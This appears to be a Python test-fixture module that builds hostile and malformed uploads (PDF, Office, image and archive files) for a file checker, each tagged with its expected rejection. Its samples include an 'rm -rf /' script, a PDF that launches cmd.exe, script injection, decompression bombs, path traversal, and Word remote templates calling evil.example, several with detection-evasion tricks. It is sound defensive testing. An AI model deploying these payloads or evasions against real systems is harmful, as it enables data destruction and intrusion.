"""Files that somebody might send to do harm or by mistake, made here letter by letter."""

import io
import struct
import zipfile
import zlib

from PIL import Image

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="'
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
LINKED = (
    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/hyperlink" '
    'Target="https://city.example/" TargetMode="External"/></Relationships>'
)
RELATIONS = '<?xml version="1.0"?><Relationships></Relationships>'


def picture(kind="JPEG", size=(640, 400), mode="RGB", **options):
    made = Image.new(mode, size, color=120 if mode == "L" else None)
    for x in range(0, size[0], 7):
        made.putpixel((x, x % size[1]), 255 if mode in ("L", "P") else (255,) * len(mode))
    packed = io.BytesIO()
    made.save(packed, kind, **options)
    return packed.getvalue()


def with_place(size=(640, 400), turned=6):
    """A JPEG as a phone makes it: lying on its side, with where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = turned
    exif[0x010F] = "SECRET-CAMERA"
    exif.get_ifd(0x8825).update({1: "N", 2: (9.0, 1.0, 2.0), 3: "W", 4: (1.0, 2.0, 3.0)})
    return picture(size=size, exif=exif.tobytes(), comment=b"SECRET-COMMENT")


def png_that_claims(width, height):
    """The first bytes of a PNG of this size; there is next to nothing in it."""

    def chunk(name, data):
        return (
            struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))
        )

    header = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def moving_gif():
    frames = [Image.new("RGB", (20, 20), color) for color in ("red", "blue")]
    packed = io.BytesIO()
    frames[0].save(packed, "GIF", save_all=True, append_images=frames[1:])
    return packed.getvalue()


def pdf(inside=b"", packed=None, tail=b""):
    """A page without words; `inside` stands in the clear, `packed` in a stream of objects."""
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inside + b" >>\nendobj\n"
    body += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    if packed is not None:
        stream = zlib.compress(packed)
        body += b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        body += str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream\nendobj\n"
    return body + b"trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + tail


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
FORM = b"<< /XFA [(template) 9 0 R] >>"


def between_streams(hidden, start=b"% stream", end=b"% endstream"):
    """Something that seems to be a part of a stream, and isn't."""
    far = b"\n%" + b"-" * 200 + b"\n"
    return pdf(b">>\nendobj\n" + start + far + hidden + far + end + b"\n4 0 obj\n<<")


def packed_as(name, before=b""):
    """Packed objects under another spelling, or with much before them."""
    whole = pdf(packed=b"1 0 " + SCRIPT)
    return whole.replace(b"<< /Type /ObjStm", b"<< /Type " + name + before)


def zipped(parts, method=zipfile.ZIP_DEFLATED, stored=()):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name in stored else method)
    return packed.getvalue()


def docx(**parts):
    more = {name.replace("__", "/").replace("_dot_", "."): words for name, words in parts.items()}
    return zipped(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELATIONS,
            "word/document.xml": "<w:document>Water</w:document>",
            **more,
        }
    )


def office(part):
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": LINKED, part: "<x/>"}
    return zipped(parts)


def open_document(kind):
    parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "content.xml": "<office:document-content/>",
        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:x"/>',
    }
    return zipped(parts, stored=("mimetype",))


REMOTE_TEMPLATE = (
    '<?xml version="1.0"?><Relationships><Relationship Type="http://x/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def related(relation):
    return docx(**{"word/_rels/settings.xml.rels": relation})


def with_type(kind):
    """Some part of the document is of this kind."""
    types = CONTENT_TYPES.replace(
        "</Types>", f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'
    )
    return zipped({"[Content_Types].xml": types, "word/document.xml": "<x/>"})


def locked_zip():
    packed = bytearray(docx())
    place = packed.find(b"PK\x01\x02")
    while place >= 0:
        packed[place + 8] |= 1
        place = packed.find(b"PK\x01\x02", place + 4)
    return bytes(packed)


BOMB = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"\0" * 30_000_000})
MANY = zipped({f"word/{number}.xml": "" for number in range(1_001)})

# What it is called, what is in it, and what the person is told of it.
HOSTILE = {
    "empty.pdf": (b"", "EMPTY"),
    "blank.txt": (b" \r\n\t ", "EMPTY"),
    "drawing.svg": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG",
    ),
    "drawing-xml.png": (b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', "SVG"),
    "page.html": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "WEB_PAGE"),
    "page-as-table.csv": (b"a,b\n1,<script>alert(1)</script>\n", "WEB_PAGE"),
    "archive.zip": (zipped({"a.txt": "a", "b.exe": "MZ"}), "ARCHIVE"),
    "archive.7z": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 60, "ARCHIVE"),
    "archive.tar.gz": (b"\x1f\x8b\x08" + b"\1" * 60, "ARCHIVE"),
    "program.pdf": (b"MZ\x90\0" + b"\0" * 300, "PROGRAM"),
    "run.txt": (b"#!/bin/sh\nrm -rf /\n", "PROGRAM"),
    "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "OLD_OFFICE"),
    "picture-and-archive.jpg": (picture() + docx(), "TWO_KINDS"),
    "picture-and-pdf.gif": (picture("GIF", mode="P") + pdf(), "TWO_KINDS"),
    "picture-and-page.gif": (b"GIF89a/*<script>alert(1)</script>*/" + b"\0" * 90, "TWO_KINDS"),
    "pdf-and-archive.pdf": (pdf() + docx(), "TWO_KINDS"),
    "archive-and-pdf.docx": (b"PK\x03\x04%PDF-1.7" + docx(), "TWO_KINDS"),
    "words-before.docx": (b"PK\x03\x04" + b"\1" * 40 + docx(), "TWO_KINDS"),
    "words-after.docx": (docx() + b"more than the archive", "TWO_KINDS"),
    "cut.png": (picture("PNG")[:300], "BROKEN"),
    "cut.pdf": (pdf()[:80], "BROKEN"),
    "cut.docx": (docx()[:200], "BROKEN"),
    "bomb.png": (png_that_claims(60_000, 60_000), "PIXELS"),
    "line.png": (png_that_claims(30_000, 10), "SHAPE"),
    "lies.png": (png_that_claims(4_000, 4_000), "BROKEN"),
    "moving.gif": (moving_gif(), "MOVES"),
    "bomb.docx": (BOMB, "PACKED"),
    "thousand.docx": (MANY, "PACKED"),
    "bomb.pdf": (pdf(packed=b"\0" * 9_000_000), "PACKED"),
    "slip.docx": (docx(**{"../../etc/passwd": "x"}), "BROKEN"),
    "locked.docx": (locked_zip(), "LOCKED"),
    "macros.docx": (docx(**{"word/vbaProject.bin": "x"}), "MACROS"),
    "macro-type.docx": (with_type("application/vnd.ms-word.document.macroEnabled"), "MACROS"),
    "spelt-macro-type.docx": (with_type("application/vnd.ms-office.&#118;baProject"), "MACROS"),
    "object.docx": (docx(**{"word/embeddings/oleObject1.bin": "x"}), "EMBEDDED"),
    "template.docx": (related(REMOTE_TEMPLATE), "REMOTE"),
    "wide-template.docx": (related(REMOTE_TEMPLATE.encode("utf-16")), "REMOTE"),
    "spelt-template.docx": (related(REMOTE_TEMPLATE.replace('"E', '"&#69;')), "REMOTE"),
    "capital-template.docx": (docx(**{"word/_rels/A.RELS": REMOTE_TEMPLATE}), "REMOTE"),
    "odd-encoding.docx": (related(REMOTE_TEMPLATE.replace("?>", " encoding='x'?>")), "BROKEN"),
    "half-read.docx": (related("<Relationships>"), "BROKEN"),
    "entities.docx": (
        docx(**{"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
        "BROKEN",
    ),
    "script.pdf": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "PDF_PROGRAM"),
    "spelt.pdf": (pdf(b"/OpenAction << /S /J#61vaScript >>"), "PDF_PROGRAM"),
    "hidden-script.pdf": (pdf(packed=b"1 0 << /S /JavaScript /JS (x) >>"), "PDF_PROGRAM"),
    "comment.pdf": (between_streams(b"5 0 obj\n" + FORM + b"\nendobj"), "PDF_PROGRAM"),
    "comment-ends.pdf": (between_streams(FORM, start=b"% << >> stream"), "PDF_PROGRAM"),
    "in-a-stream.pdf": (
        between_streams(
            b"5 %\n0 obj\n" + FORM + b"\nendobj", b"8 0 obj\n<< >>\nstream", b"endstream"
        ),
        "PDF_PROGRAM",
    ),
    "in-a-string.pdf": (
        between_streams(SCRIPT, b"5 0 obj\n<< /A (>>\nstream", b"/C (\nendstream) >>\nendobj"),
        "PDF_PROGRAM",
    ),
    "spelt-objects.pdf": (packed_as(b"/Obj#53tm"), "PDF_PROGRAM"),
    "far-objects.pdf": (packed_as(b"/ObjStm", b" " * 900), "PDF_PROGRAM"),
    "commented-objects.pdf": (packed_as(b"/ObjStm % stream\n% endstream\n"), "BROKEN"),
    "launch.pdf": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "PDF_PROGRAM"),
    "inside.pdf": (pdf(b"/Names << /EmbeddedFiles 5 0 R >>"), "PDF_FILES"),
    "locked.pdf": (pdf(b"/Encrypt 4 0 R"), "LOCKED"),
    "latin.csv": ("año,niños\n".encode("latin-1"), "NOT_TEXT"),
    "letters.txt": (b"Water\0and\x1b[2Jmore", "UNKNOWN"),
    "random.bin": (bytes(range(1, 256)) * 9, "UNKNOWN"),
}

GOOD = {
    "photo.jpg": (picture(), "jpeg"),
    "drawing.png": (picture("PNG", mode="RGBA"), "png"),
    "picture.webp": (picture("WEBP"), "webp"),
    "still.gif": (picture("GIF", mode="P"), "gif"),
    "report.pdf": (pdf(), "pdf"),
    "packed.pdf": (pdf(packed=b"1 0 << /Type /Page >>"), "pdf"),
    "words.docx": (docx(), "docx"),
    "table.xlsx": (office("xl/workbook.xml"), "xlsx"),
    "slides.pptx": (office("ppt/presentation.xml"), "pptx"),
    "words.odt": (open_document("text"), "odt"),
    "table.ods": (open_document("spreadsheet"), "ods"),
    "table.csv": ("año,niños\n2027,12\n".encode("utf-8-sig"), "csv"),
    "words.txt": ("Agua limpia – 5 < 7 & 8 > 3\n".encode(), "txt"),
}
